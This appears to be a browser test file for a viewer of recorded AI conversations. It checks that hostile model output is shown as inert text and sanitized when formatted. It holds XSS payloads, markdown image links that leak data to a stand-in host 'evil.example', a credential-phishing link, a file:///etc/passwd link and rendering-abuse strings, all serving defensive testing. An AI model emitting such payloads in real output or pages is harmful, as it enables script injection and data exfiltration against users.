// What a model writes may be anything. It is shown, and it does nothing.
import assert from "node:assert/strict";
import { test } from "node:test";
import { overflow, violations } from "./everyone.mjs";
import { site } from "./site.mjs";

const session = site();

const far = "https://evil.example";
const hostile = [
  "<script>document.title = 'taken'</script><b onclick=alert(1)>bold</b>",
  `![a picture](${far}/leak?${"x".repeat(40)})`,
  `![by reference][pic]\n\n[pic]: ${far}/leak`,
  `<img src="${far}/leak" onerror="document.title='taken'">`,
  "[click](javascript:document.title='taken') [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)",
  `[your bank](${far}/login) and <${far}/auto>, [mail](mailto:a@b.example), [here](/there)`,
  `<iframe src="${far}"></iframe><style>*{display:none}</style><form action="${far}"><input name=key></form>`,
  `<svg><a xlink:href="javascript:1"><text>x</text></a></svg><math><mi xlink:href="javascript:1">x</mi></math>`,
  "\u202Eesrever si siht\u202C and \u2066isolated",
  `za${"\u0300\u0301\u0302\u0303".repeat(200)}lgo`,
  "\u001b[31mred\u001b[0m \u0007bell \u0000nul",
  "a".repeat(30_000),
  `${"> ".repeat(200)}deep`,
  `${"[".repeat(2000)}x${"](".repeat(2000)}`,
  "| a | b |\n|---|---|\n| `c` | **d** |\n\n1. one\n2. two\n\n```js\n</pre><script>1</script>\n```",
];

const usage = { input_tokens: 100, output_tokens: 10, cache_creation_input_tokens: 0, cache_read_input_tokens: 0 };
const lesson = {
  window: 100_000, ratio: 0.7, meter: "occupancy", outputReserve: 0, replyLimit: 4000, summaryLimit: 2000, strategy: { type: "restart" },
  restart: { pinInstructions: false, fenceNotes: false, notesLimit: null }, notes: { readAtStart: false, guard: false },
  guards: { summaryAttempts: 1, breaker: null, storm: null, minGain: null, feasibility: false, fitSummary: false, goOn: false },
  valves: { maxCalls: null, tokenBudget: null, maxPauses: null }, anyStopAnswers: true,
};

/** A recording in which every hostile text is said once, with a tool call between, and comes back as a result as well. */
function recording() {
  const answers = hostile.flatMap((text, i) => [
    { reply: { type: "message", role: "assistant", content: [{ type: "text", text }, { type: "tool_use", id: `c${i}`, name: "echo", input: { text } }], stop_reason: "tool_use", usage } },
    { result: { text, isError: false } },
  ]);
  answers.push({ reply: { type: "message", role: "assistant", content: [{ type: "text", text: hostile.join("\n\n") }], stop_reason: "end_turn", usage } });
  return {
    format: "secondwind-recording", version: 1, title: "<b>Hostile</b>", task: "Say something.", system: "s",
    tools: [{ name: "echo", description: "d", inputSchema: { type: "object" } }], policy: lesson, dialect: "anthropic", model: "m", answers,
  };
}

for (const width of [320, 1440]) {
  test(`at ${width} px a model's text is shown and does nothing, as text and formatted`, async () => {
    const page = await session.open({ width });
    await page.getByTestId("source-recorded").click();
    await page.getByTestId("recording-input").setInputFiles({ name: "run.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(recording())) });
    await page.getByTestId("recording").waitFor();
    await page.getByTestId("live-close").click();
    await page.getByTestId("scrubber").fill("999");
    const title = await page.title();
    const bodies = page.locator("[data-testid=messages] details");
    const open = () => bodies.evaluateAll((all) => all.forEach((one) => (one.open = true)));
    await open();
    await page.waitForFunction(() => [...document.querySelectorAll("[data-testid=messages] details")].every((one) => one.querySelector(".parts")));
    const texts = await page.locator("[data-testid=messages] .prose").evaluateAll((all) => all.map((one) => one.textContent));
    for (const text of hostile) assert.ok(texts.some((one) => one.includes(text)), text.slice(0, 60));
    assert.deepEqual(await overflow(page), []);

    await page.getByTestId("text-formatted").click();
    await page.getByTestId("formatted").first().waitFor();
    const made = await page.getByTestId("formatted").evaluateAll((all) => ({
      tags: [...new Set(all.flatMap((one) => [...one.querySelectorAll("*")].map(({ localName }) => localName)))],
      attributes: [...new Set(all.flatMap((one) => [...one.querySelectorAll("*")].flatMap((element) => element.getAttributeNames())))],
      links: all.flatMap((one) => [...one.querySelectorAll("a")].map(({ href, rel, target, nextSibling }) => ({ href, rel, target, mark: nextSibling?.textContent.slice(0, 15) }))),
    }));
    for (const tag of ["script", "img", "iframe", "style", "form", "input", "svg", "math", "object"]) assert.ok(!made.tags.includes(tag), tag);
    for (const tag of ["a", "code", "table", "ol"]) assert.ok(made.tags.includes(tag), tag);
    assert.deepEqual(made.attributes.filter((name) => !["href", "rel", "target", "start"].includes(name) && !name.startsWith("class")), []);
    assert.ok(made.links.length > 0);
    for (const link of made.links) {
      assert.match(link.href, /^https:\/\/evil\.example\//);
      assert.deepEqual([link.rel, link.target, link.mark], ["noopener noreferrer nofollow", "_blank", " (evil.example)"]);
    }
    assert.deepEqual(await overflow(page), []);
    assert.deepEqual(await violations(page), []);
    assert.equal(await page.title(), title);
    assert.deepEqual(page.troubles, []);
    await page.end();
  });
}

test("an encoded file in an answer does not keep the page, in Korean and its fonts as well", async () => {
  for (const lang of ["en", "ko"]) {
    const page = await session.open({ lang });
    const text = "B".repeat(40_000);
    const one = { ...recording(), answers: [{ reply: { type: "message", role: "assistant", content: [{ type: "text", text }], stop_reason: "end_turn", usage } }] };
    await page.getByTestId("source-recorded").click();
    await page.getByTestId("recording-input").setInputFiles({ name: "run.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(one)) });
    await page.getByTestId("recording").waitFor();
    await page.getByTestId("scrubber").fill("999");
    await page.getByTestId("answer").waitFor();
    assert.equal(await page.getByTestId("answer").textContent(), text);
    // It is laid out anew at another width. Measured anew for each line it takes some ten seconds.
    const took = await page.evaluate(() => {
      const begun = performance.now();
      document.body.style.width = `${document.body.clientWidth - 7}px`;
      document.body.getBoundingClientRect();
      return performance.now() - begun;
    });
    assert.ok(took < 1500, `${lang}: ${took} ms`);
    await page.end();
  }
});
